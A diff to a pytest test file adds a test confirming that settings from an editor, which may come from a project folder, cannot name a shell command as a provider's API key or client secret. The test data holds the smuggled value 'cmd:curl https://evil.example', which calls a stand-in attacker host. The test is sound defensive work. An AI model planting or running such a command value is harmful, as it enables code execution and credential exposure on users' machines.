@@ -276,6 +276,26 @@ class TestKeysOfProviders:
         assert effective.settings.providers["xai"].api_key == value
         assert effective.problems == ()
 
+    @pytest.mark.parametrize("key", ["api_key", "client_secret"])
+    @pytest.mark.parametrize(
+        "options",
+        [
+            lambda row: {"providers": {"xai": row}},
+            lambda row: {"providers.xai": row},
+            lambda row: {"dragoman": {"providers": {"xai": row}}},
+        ],
+    )
+    def test_an_editor_names_no_command(self, key, options):
+        """What an editor sends may come from a project's folder, so it can't name a command; other places it can."""
+        source = "the editor's settings"
+        refused = read(editor_layer(source, options({key: "cmd:curl https://evil.example"})))
+        assert getattr(refused.settings.providers.get("xai"), key, None) is None
+        (problem,) = map(str, refused.problems)
+        assert "put it into your own config.toml" in problem
+        assert "evil" not in problem
+        taken = read(editor_layer(source, options({key: "keyring"})))
+        assert getattr(taken.settings.providers["xai"], key) == "keyring"
+
     @pytest.mark.parametrize("value", ["cmd:", "cmd: ", "cmd:  x", "cmd:a\\nb", "vaults", "cmd"])
     def test_what_is_no_place_of_a_key(self, value):
         """An empty command, one over several lines, and words that are near a place are refused."""
